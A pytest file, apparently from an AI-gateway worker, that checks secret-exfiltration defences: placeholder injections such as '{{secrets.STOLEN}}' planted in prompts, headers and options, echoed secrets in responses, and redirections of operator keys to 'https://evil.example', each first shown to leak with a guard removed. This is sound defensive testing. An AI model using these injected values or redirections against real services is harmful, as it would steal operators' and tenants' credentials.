"""
Attacks on secrets: a task, a prompt or the service itself tries to bring one out.

Each is first seen to work against a build from which one guard has been taken, so none passes by being harmless.
"""

import base64
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from tests.attacks.line import OPERATORS, OWN, STOLEN, Attack, leaks, seen
from tests.made import CHAT_REPLY, a_reply, a_task
from worker import inputs
from worker.connections import Asker, Connections, NamedConnection
from worker.connector import connector
from worker.errors import TimedOut, Unreachable
from worker.secrets import EnvironmentSecrets, Policy, Redactor, vault
from worker.secrets.placeholders import fill

Weaken = Callable[[pytest.MonkeyPatch], None]


def _fills_everything(patch: pytest.MonkeyPatch) -> None:
    """As runtimes do that fill the text of all variables."""
    real = inputs.parse_task
    everything = {"STOLEN": json.dumps(STOLEN)[1:-1]}
    patch.setattr(
        connector,
        "parse_task",
        lambda text: real(fill(text.decode(), lambda name: everything.get(name, f"{{{{secrets.{name}}}}}")).encode()),
    )


def _fills_again(patch: pytest.MonkeyPatch) -> None:
    """Once more over what has been filled."""
    patch.setattr(vault, "fill", lambda text, value_of: fill(fill(text, value_of), lambda _: STOLEN))


def _masks_nothing(patch: pytest.MonkeyPatch) -> None:
    for name in ("text", "json", "value", "mapping"):
        patch.setattr(Redactor, name, lambda _self, given: given)


def _allows_all(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(Policy, "refuses", lambda *_: False)


def _overrides_all(patch: pytest.MonkeyPatch) -> None:
    """Merges what a task says over what the operator says, without a question."""
    patch.setattr("worker.connections.named._check_overrides", lambda *_: None)
    patch.setattr("worker.connections.named._goes_elsewhere", lambda _: False)
    patch.setattr(Connections, "named", lambda self, *_: self._named["main"])


def _serves_all(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(NamedConnection, "admits", lambda *_: True)


_NOTATIONS = ("{{secrets.STOLEN}}", "<<secrets.STOLEN>>", "{{ secrets.STOLEN }}")
_PLACES: Mapping[str, Callable[[str], dict[str, Any]]] = {
    "prompt": lambda text: a_task(input={"content": f"say {text}"}),
    "system prompt": lambda text: a_task(input={"content": "x", "systemPrompt": text}),
    "message": lambda text: a_task(input={"messages": [{"role": "user", "content": text}]}),
    "part of a message": lambda text: a_task(
        input={"messages": [{"role": "user", "content": [{"type": "text", "text": text}]}]}
    ),
    "stop word": lambda text: a_task(input={"content": "x", "stop": [text]}),
    "user": lambda text: a_task(input={"content": "x", "user": text}),
    "metadata": lambda text: a_task(input={"content": "x", "metadata": {"k": text}}),
    "extra body": lambda text: a_task(options={"extraBody": {"k": text}}),
    "nested extra body": lambda text: a_task(options={"extraBody": {"a": [{"b": text}]}}),
    "key of the extra body": lambda text: a_task(options={"extraBody": {text: 1}}),
    "extra query": lambda text: a_task(options={"extraQuery": {"k": text}}),
    "deployment": lambda text: a_task(deployment=text),
    "old completion": lambda text: a_task(operation="completion", input={"prompt": text}),
    "embedding": lambda text: a_task(operation="createEmbedding", input={"input": text}),
    "image": lambda text: a_task(operation="createImage", input={"prompt": text}),
    "question": lambda text: a_task(operation="generalQuery", input={"question": text}),
}
_IN_PLACES = [
    pytest.param(_fills_everything, Attack(task=place(text)), id=f"{name}, {text}")
    for name, place in _PLACES.items()
    for text in _NOTATIONS
]
_WRITTEN: Mapping[str, Callable[[str], str]] = {
    "plain": str,
    "JSON": lambda value: json.dumps(value)[1:-1],
    "URL": lambda value: quote(value, safe=""),
    "form": quote_plus,
    "basic": lambda value: "Basic " + base64.b64encode(f"user:{value}".encode()).decode(),
}


def _escaped(text: str) -> str:
    """An answer in which the service has written every letter of *text* as JSON's escape for it."""
    letters = "".join(f"\\u{ord(letter):04x}" for letter in text)
    return json.dumps({**CHAT_REPLY, "echo": "HERE"}).replace("HERE", letters)


_ECHOES: Mapping[str, Callable[[str], Any]] = {
    "answer": lambda text: a_reply(body={**CHAT_REPLY, "choices": [{"message": {"content": text}}]}),
    "field of the answer": lambda text: a_reply(body={**CHAT_REPLY, "echo": {"deep": [text]}}),
    "name of a field": lambda text: a_reply(body={**CHAT_REPLY, text: 1}),
    "header": lambda text: a_reply(X_Echo=text),
    "request id": lambda text: a_reply(x_request_id=text),
    "refusal": lambda text: a_reply(400, {"error": {"message": f"bad key {text}"}}),
    "refusal's header": lambda text: a_reply(401, {"error": {"message": "no"}}, X_Echo=text),
    "escaped letter by letter": lambda text: a_reply(body=_escaped(text)),
    "HTML": lambda text: a_reply(502, f"<p>{text}</p>"),
    "rate limit": lambda text: a_reply(429, {"error": {"message": text}}),
    "our time-out": lambda text: TimedOut(f"sent {text}"),
    "our network error": lambda text: Unreachable(f"no {text}"),
}
_ECHOED = [
    pytest.param(_masks_nothing, Attack(says=place(write(OWN))), id=f"{name}, {form}")
    for name, place in _ECHOES.items()
    for form, write in _WRITTEN.items()
]


def _connection(**fields: Any) -> dict[str, Any]:
    return a_task(connection={"resource": "my-res", "authentication": {"type": "none"}, **fields})


def _evil(**fields: Any) -> dict[str, Any]:
    return a_task(connection={"name": "main", **fields})


_MAIN = {"resource": None, "endpoint": "https://main.openai.azure.com"}
_FORBIDDEN = {"allow": [{"names": ["AZURE_*"]}]}
_OTHERS = [
    pytest.param(
        _fills_again,
        Attack(
            task=_connection(endpoint="https://evil.example", resource=None, headers={"X-Own": "{{secrets.X}}"}),
            secrets={"X": value},
        ),
        id=f"in a secret's own value: {value}",
    )
    for value in ("{{secrets.STOLEN}}", "<<secrets.STOLEN>>", "secrets.STOLEN", "a{{secrets.STOLEN}}b")
] + [
    pytest.param(
        _allows_all,
        Attack(task=_connection(endpoint=f"https://evil.example/{text}", resource=None), policy=_FORBIDDEN),
        id=f"not on the list: {text}",
    )
    for text in _NOTATIONS
] + [
    pytest.param(
        _allows_all,
        Attack(
            task=_connection(endpoint="https://evil.example", resource=None, headers={"X-Own": "{{secrets.STOLEN}}"}),
            policy=policy,
        ),
        id=f"not on the list: {policy}",
    )
    for policy in (
        {"allow": [{"names": ["STOLEN"], "processes": ["another"]}]},
        {"allow": [{"names": ["STOLEN"], "tenants": ["another"]}]},
        {"allow": [{"names": ["stolen", "STOLE", "TOLEN", "*STOLEN*x"]}]},
    )
] + [
    pytest.param(_overrides_all, Attack(task=_evil(**fields), named=named), id=f"the operator's key to {fields}")
    for named in (_MAIN, {**_MAIN, "override": ["endpoint", "provider"]})
    for fields in (
        {"endpoint": "https://evil.example"},
        {"endpoint": "https://evil.example/openai/deployments/x/chat/completions?api-version=v1"},
        {"provider": "compatible", "endpoint": "https://evil.example/v1"},
        {"provider": "openai", "endpoint": "https://evil.example/v1"},
    )
]  # fmt: skip


@pytest.fixture
def weakened() -> Iterator[pytest.MonkeyPatch]:
    """Takes one guard out of the build, and puts it back."""
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.mark.parametrize(("weaken", "attack"), [*_IN_PLACES, *_ECHOED, *_OTHERS])
async def test_attack(weaken: Weaken, attack: Attack, weakened: pytest.MonkeyPatch) -> None:
    """With the guard taken away it works; with the guard in its place nothing leaks."""
    weaken(weakened)
    assert leaks(await seen(attack), STOLEN, OWN, OPERATORS), "the attack is harmless"
    weakened.undo()

    assert [] == leaks(await seen(attack), STOLEN, OWN, OPERATORS)


async def test_a_tenant_cannot_take_anothers_variable() -> None:
    """With tenant-aware names, a name that reads on into another tenant's is refused; without the guard it is not."""
    variables = {"S_a_b_KEY": STOLEN}
    weak = EnvironmentSecrets(variables, prefix="S_", by_tenant=True)
    strong = EnvironmentSecrets(variables, prefix="S_", by_tenant=True, tenants=("a", "a_b"))

    assert await weak.get("b_KEY", Asker("p", "a")) == STOLEN
    assert await strong.get("b_KEY", Asker("p", "a")) is None


def test_there_are_enough() -> None:
    """The table holds at least sixty attacks."""
    assert len([*_IN_PLACES, *_ECHOED, *_OTHERS]) >= 60
